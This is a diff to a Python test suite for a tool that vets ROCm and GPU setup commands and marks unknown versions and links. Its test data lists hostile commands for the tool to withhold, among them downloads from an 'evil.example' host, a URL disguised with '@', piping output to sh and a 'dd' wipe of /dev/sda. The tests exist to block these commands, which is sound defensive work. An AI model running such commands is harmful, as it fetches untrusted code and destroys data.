@@ -165,6 +165,7 @@ def test_every_format_shows_what_was_proven_corrected_and_only_said(server: Serv
         ("rocminfo 2>/dev/null | grep -i gfx", "proven"),
         ("echo options amdgpu foo=1 >> /etc/modprobe.d/x.conf", "word"),
         ("comfy launch --cpu", "word"),
+        ("curl -O https://repo.radeon.com/rocm/no-such.key", "word"),
     ],
 )
 def test_a_command_is_judged_by_the_catalog_for_this_gpu(command: str, proof: str) -> None:
@@ -198,6 +199,8 @@ def test_a_command_is_judged_by_the_catalog_for_this_gpu(command: str, proof: st
         "pip install --trusted-host evil.example bitsandbytes",
         "rocminfo >& x",
         "wget https://evil.example/x.sh",
+        "wget https://repo.radeon.com@evil.example/x.sh",
+        "wget http://repo.radeon.com/x.sh",
         "rocminfo | sh",
         "bash x.sh",
         "dd if=/dev/zero of=/dev/sda",
@@ -219,10 +222,11 @@ def test_a_command_that_destroys_or_hides_what_it_runs_is_withheld(command: str)
 def test_versions_that_do_not_exist_are_marked_and_those_of_the_person_are_not() -> None:
     matrix = load()
     known = Known(declare_machine("gfx1100", "3.12", matrix).base, "capture", matrix, "I run ROCm 3.7.1 on a gfx1100")
-    told = "Take ROCm 9.4, torch 2.99.1 or gfx1999, not ROCm 3.7.x or ROCm 6.4; see https://evil.example/x."
+    told = "Take ROCm 9.4, torch 2.99.1 or gfx1999, not ROCm 3.7.x or ROCm 6.4; see https://evil.example/x and https://repo.radeon.com/x."
     marked = known.mark_unknown(told)
-    assert marked.count("[not known to exist]") == 3
+    assert marked.count("[not known to exist]") == 4
     assert "evil" not in marked
+    assert "https://repo.radeon.com/x [not" in marked
     assert "ROCm 9.4 [not" in marked
     assert "ROCm 3.7.x or" in marked
     assert "ROCm 6.4;" in marked
@@ -267,6 +271,15 @@ def test_a_guess_does_not_stand_above_an_opinion(server: Server) -> None:
     beside = server.check(text).stdout
     assert "read like this" not in beside
     assert "Second opinion" in beside
+
+
+def test_what_a_line_of_the_text_suggests_stands_below_an_opinion(server: Server) -> None:
+    text = "# GPU in docker\nrocminfo inside of docker shows Permission denied for /dev/kfd\nRadeon RX 6600 XT, gfx1032\n"
+    server.content = opinion(quote="Permission denied", do="Pass the device by its right name.")
+    beside = server.check(text)
+    found = next(one for one in server.report(text).findings if one.severity != "note")
+    assert found.confidence != "high"
+    assert beside.stdout.index("Second opinion") < beside.stdout.index(found.title)
 
 
 def test_what_evidence_decides_is_not_contradicted(server: Server) -> None:
